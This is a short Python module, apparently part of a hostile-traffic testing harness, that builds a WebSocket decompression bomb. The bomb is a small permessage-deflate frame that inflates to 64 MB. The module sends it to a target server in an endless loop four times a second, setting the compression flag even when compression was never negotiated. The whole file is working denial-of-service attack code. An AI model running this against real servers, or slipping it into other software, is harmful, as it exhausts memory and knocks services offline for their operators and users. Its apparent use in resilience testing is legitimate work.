"""Sends compressed messages that inflate a thousandfold, whether compression was agreed on or not."""

import zlib

import trio

from ..hostile.web import frame
from .target import Target, drain

INFLATED = 64 * 1024 * 1024


def make_bomb() -> bytes:
    """One message of 64 kB that inflates to `INFLATED` bytes (RFC 7692)."""
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = b"".join(deflate.compress(bytes(1 << 20)) for _ in range(INFLATED >> 20))
    return data + deflate.flush(zlib.Z_SYNC_FLUSH)[:-4]


async def attack(target: Target) -> None:
    """Four a second; `negotiated` counts the sockets on which the daemon agreed to inflate."""
    bomb = frame(1, await trio.to_thread.run_sync(make_bomb), flags=0x40)
    while True:
        opened = await target.websocket(head=b"Sec-WebSocket-Extensions: permessage-deflate\r\n")
        if opened is not None:
            target.tally["negotiated"] += b"permessage-deflate" in opened.answer.lower()
            with target.counting():
                async with opened.stream:
                    await opened.stream.send_all(bomb)
                    with trio.move_on_after(1):
                        await drain(opened.stream)
        await trio.sleep(0.25)
